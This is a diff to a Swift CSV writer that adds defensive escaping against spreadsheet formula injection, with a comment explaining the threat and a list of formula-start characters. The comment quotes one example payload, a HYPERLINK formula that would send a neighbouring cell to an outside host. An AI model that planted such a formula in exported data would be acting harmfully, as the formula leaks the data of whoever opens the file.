@@ -5,6 +5,11 @@
 ///   Frictionless all drop it.
 /// - CRLF after every row, the last one included.
 /// - A field is quoted when it holds a comma, a double quote, CR or LF; quotes inside are doubled.
+/// - A field a spreadsheet would take for a formula (its first character, after any spaces, is
+///   `=`, `+`, `-`, `@`, a tab, CR or LF) gets a leading apostrophe, so LibreOffice and Excel show
+///   it as text instead of running it: a finding typed as `=HYPERLINK("http://…?x="&A1)` would
+///   otherwise send the cell next to it to a stranger. No column of ours holds negative numbers,
+///   so no number is touched.
 ///
 /// Not yaslab/CSV.swift's `CSVWriter`: it decides quoting with grapheme-level `contains` and
 /// doubles quotes with `replacingOccurrences`, so a quote or comma followed by a combining mark
@@ -30,7 +35,7 @@ struct CSVTable {
     private static func append(_ row: [String], to out: inout [UInt8]) {
         for (i, field) in row.enumerated() {
             if i > 0 { out.append(comma) }
-            let bytes = field.utf8
+            let bytes = formulaSafe(field).utf8
             if bytes.contains(where: { $0 == comma || $0 == quote || $0 == cr || $0 == lf }) {
                 out.append(quote)
                 for byte in bytes {
@@ -44,5 +49,14 @@ struct CSVTable {
         }
         out.append(cr)
         out.append(lf)
+    }
+
+    /// The characters that start a formula in a spreadsheet cell (OWASP's list).
+    private static let formulaStarts: Set<UInt8> = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"),
+                                                    UInt8(ascii: "@"), 0x09, cr, lf]
+
+    static func formulaSafe(_ field: String) -> String {
+        guard let first = field.utf8.first(where: { $0 != UInt8(ascii: " ") }), formulaStarts.contains(first) else { return field }
+        return "'" + field
     }
 }
